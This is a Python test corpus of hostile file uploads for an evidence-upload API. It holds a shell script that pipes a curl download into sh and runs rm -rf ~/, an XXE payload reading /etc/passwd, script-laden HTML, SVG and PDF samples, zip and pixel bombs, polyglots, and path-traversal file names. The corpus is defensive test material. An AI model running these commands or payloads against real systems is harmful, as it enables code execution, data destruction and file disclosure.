"""A corpus of hostile evidence uploads (issue 4), every one generated here in memory.

Each :class:`Case` is a whole request body (raw multipart, so broken framing and hostile
file names reach the server exactly as an attacker would send them) and the outcome the
API must give: refused with an HTTP status and a stable problem ``code``, or stored (201)
with the content type it was detected as. ``test_hostile.py`` runs each one and checks
that nothing is left behind on refusal and that stored files are served harmlessly.

Policy the corpus pins down (README, "Evidence files"):

* Typed by content, not by name: JPEG, PNG, GIF, WebP, HEIC/HEIF, PDF and UTF-8 text.
  Anything else (HTML, SVG, XML, executables, archives, office files) is 415, and so is a
  name's extension or a declared type that contradicts the content.
* Images and PDFs are never decoded or rewritten on the server (their SHA-256 is the chain
  of custody, and decoding untrusted images is an attack surface of its own). A truncated
  image, a PNG claiming 4 billion pixels, a PNG with HTML after its end and a PDF with
  JavaScript are stored as they are and only ever served as attachments with ``nosniff``
  and ``Content-Security-Policy: sandbox``, so no browser renders them in our origin.
* A file that is also a ZIP archive (JPEG+ZIP, GIFAR) is refused: archive tools open a
  ZIP from its end, so the image header would hide whatever the archive carries.
* A shell script is text: as UTF-8 text named .txt it is stored as an inert text/plain
  attachment; named .sh it is refused (the extension does not match the content).
* The client's file name is metadata only (storage uses a random name): it is NFKC
  normalised, reduced to its last path component, stripped of control and bidi
  characters and of leading/trailing dots, and cut to 120 characters.
"""

from __future__ import annotations

import base64
import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from typing import Any

from tests.evidence import files

BOUNDARY = "hostile-7MA4YWxkTrZu0gW"
MULTIPART = f"multipart/form-data; boundary={BOUNDARY}"
MB = 1024 * 1024
# The per-file limit (EVIDENCE_MAX_FILE_MB) the corpus runs with, to keep "too large" small.
LIMIT_MB = 1


@dataclass(frozen=True)
class Case:
    id: str
    why: str
    body: Callable[[], bytes]  # the whole request body
    status: int  # 201 when stored
    code: str = ""  # the problem code when refused
    stored_as: str = ""  # the detected content type when stored
    file_name: str | None = None  # the sanitized name kept when stored
    content: Callable[[], bytes] | None = None  # the file's bytes, to compare when stored
    content_type: str = MULTIPART  # the request's Content-Type header
    meta: Mapping[str, str] = field(default_factory=dict)  # WSGI environ overrides
    settings: Mapping[str, Any] = field(default_factory=dict)


# --- Building bodies -----------------------------------------------------------------------------


def part(
    field_name: str,
    content: bytes,
    *,
    filename: str | bytes | None = None,
    content_type: str | None = None,
    headers: tuple[str, ...] = (),
) -> bytes:
    disposition = f'Content-Disposition: form-data; name="{field_name}"'.encode()
    if filename is not None:
        raw = filename if isinstance(filename, bytes) else filename.encode("utf-8")
        disposition += b'; filename="' + raw + b'"'
    lines = [disposition]
    if content_type is not None:
        lines.append(f"Content-Type: {content_type}".encode())
    lines += [h.encode() for h in headers]
    return b"\r\n".join(lines) + b"\r\n\r\n" + content


def multipart(*parts: bytes, boundary: str = BOUNDARY, close: bool = True) -> bytes:
    sep = f"--{boundary}".encode()
    body = b"".join(sep + b"\r\n" + p + b"\r\n" for p in parts)
    return body + (sep + b"--\r\n" if close else b"")


def upload(
    id: str,
    why: str,
    name: str | bytes,
    make: Callable[[], bytes],
    declared: str | None = "application/octet-stream",
    *,
    status: int,
    code: str = "",
    stored_as: str = "",
    file_name: str | None = None,
    **extra: Any,
) -> Case:
    """One well-framed upload of ``make()`` as the field ``file``."""

    def body() -> bytes:
        return multipart(part("file", make(), filename=name, content_type=declared))

    if status == 415 and not code:
        code = "unsupported_file_type"
    return Case(id, why, body, status, code, stored_as, file_name, content=make, **extra)


def refused(id: str, why: str, name: str, make: Callable[[], bytes], declared: str = "") -> Case:
    return upload(id, why, name, make, declared or "application/octet-stream", status=415)


def stored(
    id: str,
    why: str,
    name: str | bytes,
    make: Callable[[], bytes],
    content_type: str,
    file_name: str | None = None,
    declared: str = "application/octet-stream",
) -> Case:
    return upload(
        id, why, name, make, declared, status=201, stored_as=content_type, file_name=file_name
    )


# --- Generated content ---------------------------------------------------------------------------


def _zip(members: list[tuple[str, bytes]]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members:
            z.writestr(name, data)
    return buf.getvalue()


def zip_bomb(member_mb: int = 64) -> bytes:
    """A ~64 KB zip whose one member inflates to ``member_mb`` MB of zeros."""
    buf = io.BytesIO()
    zero = bytes(MB)
    with (
        zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z,
        z.open("bomb.bin", "w", force_zip64=True) as member,
    ):
        for _ in range(member_mb):
            member.write(zero)
    return buf.getvalue()


def docx() -> bytes:
    return _zip(
        [
            ("[Content_Types].xml", b'<?xml version="1.0"?><Types/>'),
            ("_rels/.rels", b'<?xml version="1.0"?><Relationships/>'),
            ("word/document.xml", b'<?xml version="1.0"?><w:document/>'),
        ]
    )


def png_pixel_bomb() -> bytes:
    """A PNG whose header claims 65535 x 65535 RGBA pixels (16 GB decoded), with 1 row."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        crc = zlib.crc32(kind + data) & 0xFFFFFFFF
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)

    header = struct.pack(">IIBBBBB", 65535, 65535, 8, 6, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(bytes(65535 * 4 + 1)))
        + chunk(b"IEND", b"")
    )


HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(document.domain)</script></svg>"
)
PDF_JS = (
    b"%PDF-1.7\n"
    b"1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 3 0 R>>endobj\n"
    b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
    b"3 0 obj<</S/JavaScript/JS(app.alert('pwned'))>>endobj\n"
    b"trailer<</Root 1 0 R>>\n%%EOF\n"
)
ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + bytes(48)
PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + bytes(44) + b"\x80\0\0\0"
PE += bytes(0x80 - len(PE)) + b"PE\x00\x00\x64\x86" + bytes(18)
MACHO = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01\x03\x00\x00\x00\x02\x00\x00\x00" + bytes(16)
SHEBANG = b"#!/bin/sh\ncurl -s https://example.invalid/x | sh\nrm -rf ~/\n"
GZIP = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff" + zlib.compress(b"x" * 100)[2:-4] + bytes(8)
SEVEN_Z = b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(24)
RAR = b"Rar!\x1a\x07\x01\x00" + bytes(24)


def _pdf() -> bytes:
    return files.pdf()


# --- The corpus ----------------------------------------------------------------------------------

CORPUS: list[Case] = [
    # Markup and scripts pretending to be images or documents.
    refused("html_named_jpg", "HTML sniffed as a page", "photo.jpg", lambda: HTML, "image/jpeg"),
    refused(
        "html_named_png_declared_png",
        "HTML with PNG name and type",
        "a.png",
        lambda: HTML,
        "image/png",
    ),
    refused(
        "svg_script_named_png", "SVG runs script when rendered", "a.png", lambda: SVG, "image/png"
    ),
    refused(
        "svg_script_as_svg",
        "SVG is not an accepted image type",
        "a.svg",
        lambda: SVG,
        "image/svg+xml",
    ),
    refused(
        "xml_named_txt",
        "XML (XXE bait) is not plain text",
        "data.txt",
        lambda: (
            b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
        ),
        "text/plain",
    ),
    stored(
        "pdf_with_javascript",
        "PDFs are allowed; served as a sandboxed attachment",
        "claim.pdf",
        lambda: PDF_JS,
        "application/pdf",
        "claim.pdf",
        declared="application/pdf",
    ),
    # Executables.
    refused("elf_named_jpg", "Linux executable", "photo.jpg", lambda: ELF, "image/jpeg"),
    refused("pe_named_pdf", "Windows executable", "invoice.pdf", lambda: PE, "application/pdf"),
    refused("pe_named_exe", "Windows executable", "setup.exe", lambda: PE),
    refused("macho_named_png", "macOS executable", "shot.png", lambda: MACHO, "image/png"),
    stored(
        "shebang_script_txt",
        "UTF-8 text, stored as an inert text/plain attachment",
        "notes.txt",
        lambda: SHEBANG,
        "text/plain",
        "notes.txt",
        declared="text/plain",
    ),
    refused(
        "shebang_script_sh", "text content, but named .sh", "fix.sh", lambda: SHEBANG, "text/x-sh"
    ),
    # Polyglots.
    refused(
        "jpeg_zip_polyglot",
        "a JPEG that is also a ZIP",
        "photo.jpg",
        lambda: files.jpeg() + _zip([("payload.exe", PE)]),
        "image/jpeg",
    ),
    refused(
        "gifar",
        "a GIF that is also a JAR",
        "anim.gif",
        lambda: files.gif() + _zip([("META-INF/MANIFEST.MF", b"Main-Class: X\n")]),
        "image/gif",
    ),
    stored(
        "png_trailing_html",
        "a real PNG; the HTML after IEND is inert as an attachment",
        "photo.png",
        lambda: files.png() + HTML,
        "image/png",
        "photo.png",
        declared="image/png",
    ),
    stored(
        "png_pixel_bomb",
        "never decoded on the server, so a pixel bomb is inert",
        "huge.png",
        png_pixel_bomb,
        "image/png",
        "huge.png",
    ),
    # Empty and truncated.
    refused("zero_bytes", "an empty file is not evidence", "empty.png", lambda: b"", "image/png"),
    refused("one_byte", "one byte of nothing", "one.png", lambda: b"\x89", "image/png"),
    stored(
        "truncated_jpeg",
        "JPEG magic only: typed by content, stored as is",
        "cut.jpg",
        lambda: b"\xff\xd8\xff\xe0",
        "image/jpeg",
        "cut.jpg",
    ),
    stored(
        "truncated_png",
        "PNG signature only: typed by content, stored as is",
        "cut.png",
        lambda: b"\x89PNG\r\n\x1a\n",
        "image/png",
        "cut.png",
    ),
    # Hostile names: the name is metadata, the file is stored under a random name.
    stored(
        "name_traversal_unix",
        "path traversal",
        "../../etc/passwd.png",
        files.png,
        "image/png",
        "passwd.png",
    ),
    stored(
        "name_traversal_windows",
        "path traversal",
        "..\\..\\win.ini.png",
        files.png,
        "image/png",
        "win.ini.png",
    ),
    stored("name_absolute", "absolute path", "/etc/x.png", files.png, "image/png", "x.png"),
    stored(
        "name_entity_traversal",
        "HTML entities decode to a path",
        "..&#47;..&#47;x.png",
        files.png,
        "image/png",
        "x.png",
    ),
    stored(
        "name_fullwidth_traversal",
        "fullwidth solidus: NFKC turns it into a path",
        "..\uff0f..\uff0fetc\uff0fpasswd\uff0epng",
        files.png,
        "image/png",
        "passwd.png",
    ),
    stored(
        "name_nul_byte",
        "NUL byte truncates names in C",
        b"evil\x00.php.png",
        files.png,
        "image/png",
        "evil.php.png",
    ),
    stored(
        "name_control_chars",
        "control characters",
        "a\x07b\x1bc\x7f.png",
        files.png,
        "image/png",
        "abc.png",
    ),
    stored(
        "name_header_injection",
        "CR LF (as entities) in the name",
        "a&#13;&#10;Set-Cookie: x=1.png",
        files.png,
        "image/png",
        "aSet-Cookie: x=1.png",
    ),
    refused(
        "name_rtl_override",
        "U+202E shows invoice\u202efdp.exe as invoiceexe.pdf",
        "invoice\u202efdp.exe",
        _pdf,
        "application/pdf",
    ),
    stored(
        "name_300_chars",
        "a long name is cut, keeping the extension",
        "a" * 296 + ".png",
        files.png,
        "image/png",
        "a" * 116 + ".png",
    ),
    upload(
        "name_1000_chars",
        "part headers over 1 KB are not parsed (Django)",
        "a" * 996 + ".png",
        files.png,
        status=400,
        code="invalid",
    ),
    stored("name_only_dots", "nothing left of the name", ".....", files.png, "image/png", "upload"),
    upload(
        "name_empty",
        "a part without a file name is not a file",
        "",
        files.png,
        status=400,
        code="invalid",
    ),
    refused(
        "name_double_extension",
        "named .exe after the image extension",
        "photo.png.exe",
        files.png,
        "image/png",
    ),
    # Declared type contradicts the content.
    refused(
        "png_declared_pdf",
        "declared type contradicts content",
        "photo.png",
        files.png,
        "application/pdf",
    ),
    refused("png_declared_html", "declared as a page", "photo.png", files.png, "text/html"),
    refused("png_named_jpg", "named as another image type", "photo.jpg", files.png, "image/jpeg"),
    # Text that is not plain UTF-8.
    refused(
        "text_latin1",
        "not UTF-8",
        "letter.txt",
        lambda: "Grüße, ça va?\n".encode("latin-1"),
        "text/plain",
    ),
    refused(
        "text_utf16_bom",
        "UTF-16 with a BOM",
        "letter.txt",
        lambda: "hello\n".encode("utf-16"),
        "text/plain",
    ),
    refused(
        "text_with_nul", "NUL bytes in text", "notes.txt", lambda: b"abc\x00def\n", "text/plain"
    ),
    refused(
        "text_ansi_escapes",
        "terminal escape sequences",
        "log.txt",
        lambda: b"ok\x1b]0;pwned\x07\x1b[2J\n",
        "text/plain",
    ),
    # Archives.
    refused(
        "zip_bomb_named_png",
        "64 MB of zeros in a 64 KB zip, never inflated",
        "bomb.png",
        zip_bomb,
        "image/png",
    ),
    refused("gzip_named_jpg", "gzip", "photo.jpg", lambda: GZIP, "image/jpeg"),
    refused("7z_named_pdf", "7-Zip", "doc.pdf", lambda: SEVEN_Z, "application/pdf"),
    refused("rar_named_png", "RAR", "photo.png", lambda: RAR, "image/png"),
    refused(
        "docx_named_pdf",
        "an office file (a zip) named .pdf",
        "contract.pdf",
        docx,
        "application/pdf",
    ),
    # Accepted image types of DESIGN §7 that are easy to get wrong.
    stored(
        "webp",
        "WebP is accepted",
        "photo.webp",
        files.webp,
        "image/webp",
        "photo.webp",
        declared="image/webp",
    ),
    stored(
        "heic",
        "HEIC (ftyp heic) is accepted as image/heic",
        "IMG_0001.HEIC",
        files.heic,
        "image/heic",
        "IMG_0001.HEIC",
        declared="image/heic",
    ),
    stored(
        "heic_mif1_major",
        "HEIC with major brand mif1",
        "IMG_0002.heic",
        lambda: files.heic(b"mif1", (b"mif1", b"heic")),
        "image/heic",
        "IMG_0002.heic",
    ),
    refused(
        "avif_named_heic",
        "AVIF is not accepted",
        "photo.heic",
        lambda: files.heic(b"avif", (b"mif1", b"avif", b"miaf")),
        "image/heic",
    ),
    refused(
        "mp4_named_heic",
        "a video is not accepted",
        "clip.heic",
        lambda: files.heic(b"isom", (b"isom", b"iso2", b"mp41")),
        "image/heic",
    ),
    # Sizes.
    upload(
        "just_over_the_limit",
        "cut off while streaming",
        "big.txt",
        lambda: b"a" * (LIMIT_MB * MB + 1),
        "text/plain",
        status=413,
        code="file_too_large",
    ),
    stored(
        "exactly_the_limit",
        "the limit itself is allowed",
        "big.txt",
        lambda: b"a" * (LIMIT_MB * MB),
        "text/plain",
        "big.txt",
    ),
    upload(
        "huge_declared_length",
        "2 GB declared, a few bytes sent: refused before reading",
        "small.png",
        files.png,
        status=413,
        code="file_too_large",
        meta={"CONTENT_LENGTH": str(2 * 1024**3)},
    ),
]


def _framing(
    id: str,
    why: str,
    body: Callable[[], bytes],
    status: int,
    code: str,
    content_type: str = MULTIPART,
    **extra: Any,
) -> Case:
    return Case(id, why, body, status, code, content_type=content_type, **extra)


def _file_part(name: str = "photo.png") -> bytes:
    return part("file", files.png(), filename=name, content_type="image/png")


CORPUS += [
    # Multipart framing.
    _framing(
        "missing_closing_boundary",
        "the body ends inside the file part",
        lambda: multipart(_file_part(), close=False),
        400,
        "invalid",
    ),
    _framing(
        "boundary_mismatch",
        "the body uses another boundary than the header",
        lambda: multipart(_file_part(), boundary="something-else"),
        400,
        "invalid",
    ),
    _framing(
        "no_boundary_parameter",
        "multipart without a boundary",
        lambda: multipart(_file_part()),
        400,
        "invalid",
        content_type="multipart/form-data",
    ),
    _framing(
        "invalid_boundary",
        "a boundary with forbidden characters",
        lambda: multipart(_file_part(), boundary="a\tb"),
        400,
        "invalid",
        content_type='multipart/form-data; boundary="a\tb"',
    ),
    _framing(
        "garbage_body",
        "random bytes instead of parts",
        lambda: bytes(range(256)) * 8,
        400,
        "invalid",
    ),
    _framing(
        "part_headers_never_end",
        "a part whose headers have no blank line",
        lambda: (
            f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="file"; '
            f'filename="a.png"\r\n'.encode()
            + b"X-Pad: "
            + b"x" * 2048
        ),
        400,
        "invalid",
    ),
    _framing(
        "json_body",
        "not multipart at all",
        lambda: b'{"file": "iVBORw0KGgo="}',
        415,
        "unsupported_media_type",
        content_type="application/json",
    ),
    _framing(
        "urlencoded_body",
        "a form without files",
        lambda: b"file=photo.png",
        415,
        "unsupported_media_type",
        content_type="application/x-www-form-urlencoded",
    ),
    _framing(
        "two_file_parts",
        "which one would be stored? neither",
        lambda: multipart(_file_part("a.png"), _file_part("b.png")),
        400,
        "invalid",
    ),
    _framing(
        "file_under_another_field",
        "the file must be the field `file`",
        lambda: multipart(part("attachment", files.png(), filename="a.png")),
        400,
        "invalid",
    ),
    _framing(
        "missing_file",
        "only the text fields",
        lambda: multipart(part("description", b"see attached")),
        400,
        "invalid",
    ),
    _framing(
        "bad_base64_transfer_encoding",
        "a file part that is not valid base64",
        lambda: multipart(
            part(
                "file",
                b"!!!not base64!!!",
                filename="a.png",
                headers=("Content-Transfer-Encoding: base64",),
            )
        ),
        400,
        "invalid",
    ),
    Case(
        "base64_transfer_encoding",
        "decoded by the parser, then typed by content",
        lambda: multipart(
            part(
                "file",
                base64.b64encode(files.png()),
                filename="a.png",
                headers=("Content-Transfer-Encoding: base64",),
            )
        ),
        201,
        stored_as="image/png",
        file_name="a.png",
        content=files.png,
    ),
    _framing(
        "negative_content_length",
        "Content-Length: -1",
        lambda: multipart(_file_part()),
        400,
        "invalid",
        meta={"CONTENT_LENGTH": "-1"},
    ),
    _framing(
        "short_content_length",
        "Content-Length shorter than the body",
        lambda: multipart(_file_part()),
        400,
        "invalid",
        meta={"CONTENT_LENGTH": "120"},
    ),
    _framing(
        "too_many_fields",
        "more fields than DATA_UPLOAD_MAX_NUMBER_FIELDS",
        lambda: multipart(*(part(f"f{i}", b"x") for i in range(20)), _file_part()),
        400,
        "invalid",
        settings={"DATA_UPLOAD_MAX_NUMBER_FIELDS": 10},
    ),
    _framing(
        "huge_text_field",
        "a description beyond DATA_UPLOAD_MAX_MEMORY_SIZE",
        lambda: multipart(part("description", b"x" * 4096), _file_part()),
        413,
        "request_too_large",
        settings={"DATA_UPLOAD_MAX_MEMORY_SIZE": 1024},
    ),
    _framing(
        "bad_kind",
        "an unknown kind of evidence",
        lambda: multipart(part("kind", b"../../etc"), _file_part()),
        400,
        "invalid",
    ),
]
